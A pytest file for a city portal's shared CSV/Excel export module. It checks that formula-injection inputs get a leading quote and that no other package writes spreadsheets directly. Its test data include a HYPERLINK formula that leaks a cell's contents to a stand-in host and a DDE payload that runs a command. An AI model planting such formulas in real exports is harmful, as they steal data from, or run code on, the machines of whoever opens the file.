"""core.exports: the one CSV/Excel writer, and the guard that nothing else writes them."""

import ast
import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from binjai_portal.core import exports

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = (
    "binjai_portal",
    "musrenbang",
    "masyarakat",
    "dokter",
    "perizinan",
    "budgeting",
    "command_center",
)
ALLOWED = {ROOT / "binjai_portal" / "core" / "exports.py"}


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+62 812",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        '=HYPERLINK("http://evil.example/?x="&B7,"Klik")',
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text):
    assert exports.safe_value(text) == "'" + text


@pytest.mark.parametrize(
    "value", [42, -5, 1.5, Decimal("-12.50"), True, None, datetime.date(2026, 12, 1)]
)
def test_numbers_and_dates_stay_typed(value):
    assert exports.safe_value(value) == value


def test_plain_text_and_the_placeholder_are_unchanged():
    assert exports.safe_value("Jalan rusak") == "Jalan rusak"
    assert exports.safe_value("-") == "-"


def test_csv_response_neutralises_and_keeps_numbers():
    response = exports.csv_response(
        [["=cmd|' /C calc'!A0", Decimal("-3.5"), None]],
        header=["judul", "nilai", "kosong"],
        filename="uji.csv",
    )
    assert response["Content-Disposition"] == 'attachment; filename="uji.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["judul", "nilai", "kosong"], ["'=cmd|' /C calc'!A0", "-3.5", ""]]


def test_xlsx_drops_control_characters_and_writes_no_formula():
    book = exports.table_book(
        ["a", "b"], [["=1+1\x01", 7], ["ok\x00", None]], title="Data: [uji]/1"
    )
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    assert ws.title == "Data   uji  1"
    assert [[c.value for c in row] for row in ws.iter_rows()] == [
        ["a", "b"],
        ["'=1+1", 7],
        ["ok", None],
    ]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def _writers(tree: ast.AST) -> list[str]:
    """Calls and imports that write CSV or Excel."""
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and (isinstance(node.value, ast.Name) and node.value.id == "csv")
        ):
            found.append(f"csv.{node.attr}")
        if isinstance(node, ast.Attribute) and node.attr == "Workbook":
            found.append("openpyxl.Workbook")
        if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in (
            "openpyxl",
            "csv",
            "xlsxwriter",
            "tablib",
        ):
            names = {a.name for a in node.names}
            if (
                names & {"Workbook", "writer", "DictWriter"}
                or node.module != "openpyxl"
                and (node.module.split(".")[0] in ("xlsxwriter", "tablib"))
            ):
                found.append(f"from {node.module} import {sorted(names)}")
        if isinstance(node, ast.Import) and any(
            a.name.split(".")[0] in ("xlsxwriter", "tablib") for a in node.names
        ):
            found.append("import xlsxwriter/tablib")
    return found


def test_no_module_writes_csv_or_excel_except_core_exports():
    offenders = {}
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            if path in ALLOWED or "migrations" in path.parts:
                continue
            found = _writers(ast.parse(path.read_text(encoding="utf-8")))
            if found:
                offenders[str(path.relative_to(ROOT))] = found
    assert offenders == {}, "write CSV/Excel through binjai_portal.core.exports"


def test_the_guard_sees_a_writer():
    assert _writers(ast.parse("import csv\nw = csv.writer(f)")) == ["csv.writer"]
    assert _writers(ast.parse("from openpyxl import Workbook")) != []
    assert _writers(ast.parse("import openpyxl\nopenpyxl.Workbook()")) != []
